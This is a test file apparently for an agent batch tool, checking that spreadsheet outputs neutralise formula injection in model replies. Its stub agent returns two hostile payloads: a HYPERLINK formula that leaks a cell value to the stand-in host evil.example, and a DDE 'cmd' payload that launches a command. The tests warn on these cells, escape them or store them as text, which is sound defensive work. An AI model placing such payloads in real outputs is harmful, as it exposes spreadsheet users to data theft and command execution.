"""Outputs a spreadsheet opens: a model's `=HYPERLINK(...)` in a CSV output is a warning naming its cell (or written
as text with `--csv-formulas escape`), and a text cell of an Excel output (never a formula)."""

from __future__ import annotations

import json
import textwrap
import warnings
from pathlib import Path
from typing import Any

import pytest
from batch_helpers import record_every_row

import agentmap
from agentmap.cli import main

AGENT = '''
from agentmap import BaseAgent

REPLIES = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "dde": "-2+3+cmd|' /C calc'!A0",
    "list": "- first point\\n- second point",
    "minus": "-3",
}


class ReplyAgent(BaseAgent):
    """Stands for a model: answers each request with the text an attacker (or chance) put in its reply."""

    def process(self, inputs):
        return REPLIES[inputs["request"]]
'''

FLOW = "GraphName,Node,AgentType,Input_Fields,Output_Field\nReplies,Answer,reply,request,answer\n"
REQUESTS = ["link", "list", "dde", "minus"]


def _flow(folder: Path) -> Path:
    (folder / "custom_agents").mkdir()
    (folder / "custom_agents" / "reply.py").write_text(textwrap.dedent(AGENT), encoding="utf-8")
    (folder / "requests.csv").write_text("request\n" + "\n".join(REQUESTS) + "\n", encoding="utf-8")
    path = folder / "replies.csv"
    path.write_text(FLOW, encoding="utf-8")
    return path


def _csv_answers(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8", newline="") as handle:
        return [row["answer"] for row in csv.DictReader(handle)]


def test_a_csv_output_keeps_the_models_text_and_warns_of_each_cell_a_spreadsheet_would_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    flow, out = _flow(tmp_path), tmp_path / "results.csv"
    args = ["batch", str(flow), "-i", str(tmp_path / "requests.csv"), "-o", str(out), "--id-column", "request"]
    assert main([*args, "--json"]) == 0
    printed = capsys.readouterr()
    assert json.loads(printed.out)["formula_cells"] == 2
    warning = next(line for line in printed.err.splitlines() if "formula" in line)
    assert warning.startswith(f"warning: {out}: 2 cells start like a spreadsheet formula")
    assert "row 2 column answer (row_id link)" in warning and "row 4 column answer (row_id dde)" in warning
    assert "--csv-formulas escape" in warning and ".xlsx" in warning
    written = out.read_bytes()
    assert _csv_answers(out) == [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
        "- first point\n- second point",
        "-2+3+cmd|' /C calc'!A0",
        "-3",
    ]  # the data as the model wrote it
    assert main(args) == 0  # the finished batch run again: its output read back and written the same
    assert out.read_bytes() == written


def test_escape_writes_them_as_text_a_spreadsheet_shows_and_a_resumed_batch_escapes_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    record_every_row(monkeypatch)
    flow, out = _flow(tmp_path), tmp_path / "results.csv"
    seen: list[str] = []

    def stop_after_two(result: agentmap.RowResult) -> None:
        seen.append(result.id)
        if len(seen) == 2:
            raise KeyboardInterrupt  # Ctrl-C: the two rows finished are kept in results.csv.partial

    def escaping(**extra: Any) -> agentmap.BatchResult:
        requests = tmp_path / "requests.csv"
        return agentmap.batch(flow, requests, output=out, id_column="request", csv_formulas="escape", **extra)

    with pytest.raises(KeyboardInterrupt):
        escaping(on_result=stop_after_two, concurrency=1)
    assert not out.exists() and (tmp_path / "results.csv.partial").exists()
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        result = escaping()
        written = out.read_bytes()
        escaping()  # the finished batch run again: its output read back and written the same
    assert out.read_bytes() == written
    assert not [w for w in told if "formula" in str(w.message)]  # escaped: nothing to warn of
    assert (result.skipped, result.summary()["formula_cells"]) == (2, 2)
    assert _csv_answers(out) == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
        "- first point\n- second point",
        "'-2+3+cmd|' /C calc'!A0",
        "-3",
    ]
    capsys.readouterr()
    other = ["-o", str(tmp_path / "o.csv"), "--csv-formulas", "strip"]
    refused = main(["batch", str(flow), "-i", str(tmp_path / "requests.csv"), *other])
    assert refused == 2 and "--csv-formulas" in capsys.readouterr().err


def test_an_excel_output_holds_the_models_text_as_text_cells(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    flow, out = _flow(tmp_path), tmp_path / "results.xlsx"
    result = agentmap.batch(flow, tmp_path / "requests.csv", output=out, id_column="request")
    assert result.successes == 4
    sheet = openpyxl.load_workbook(out)["results"]
    header = [c.value for c in sheet[1]]
    answers = [row[header.index("answer")] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in answers][:3:2] == [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")', "s"),
        ("-2+3+cmd|' /C calc'!A0", "s"),
    ]
    assert answers[0].quotePrefix  # Excel shows it as text, and keeps it text when the cell is edited
    assert agentmap.batch(flow, tmp_path / "requests.csv", output=out, id_column="request").skipped == 4
    assert openpyxl.load_workbook(out, data_only=True)["results"].cell(2, header.index("answer") + 1).value == (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
    )  # read back as the text (a formula would read empty: openpyxl writes no computed value)
